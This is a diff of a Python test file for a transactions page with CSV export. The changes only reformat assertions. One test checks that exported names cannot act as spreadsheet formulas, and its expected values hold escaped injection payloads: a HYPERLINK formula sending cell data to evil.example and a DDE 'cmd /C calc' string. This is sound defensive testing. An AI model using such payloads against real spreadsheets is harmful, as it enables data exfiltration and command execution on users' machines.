@@ -1,4 +1,5 @@
 """Settings > Transactions: every payment of the user on both sides, with totals, CSV and invoices."""
+
 from __future__ import annotations
 
 import csv
@@ -31,8 +32,12 @@ def test_a_user_sees_their_cases_as_client_and_as_designer_with_totals(client, l
     rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
     by_case = {row["case"]: row for row in rows}
     assert set(by_case) == {sold.reference, bought.reference}
-    assert (by_case[sold.reference]["role"], by_case[sold.reference]["amount"], by_case[sold.reference]["fee"],
-            by_case[sold.reference]["net"]) == ("designer", "120.00", "10.80", "109.20")
+    assert (
+        by_case[sold.reference]["role"],
+        by_case[sold.reference]["amount"],
+        by_case[sold.reference]["fee"],
+        by_case[sold.reference]["net"],
+    ) == ("designer", "120.00", "10.80", "109.20")
     assert by_case[bought.reference]["role"] == "client" and by_case[bought.reference]["status"] == "captured"
 
 
@@ -59,5 +64,7 @@ def test_the_csv_never_hands_a_spreadsheet_a_formula(client, login):
 
     # then the names arrive as text, and amounts stay numbers
     assert sorted(row["counterpart"] for row in rows) == [
-        "'\t+Tabbed Lab", '\'=HYPERLINK("http://evil.example/?x="&A1,"Invoice")']
+        "'\t+Tabbed Lab",
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
+    ]
     assert mine[0]["counterpart"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and mine[0]["amount"] == "50.00"
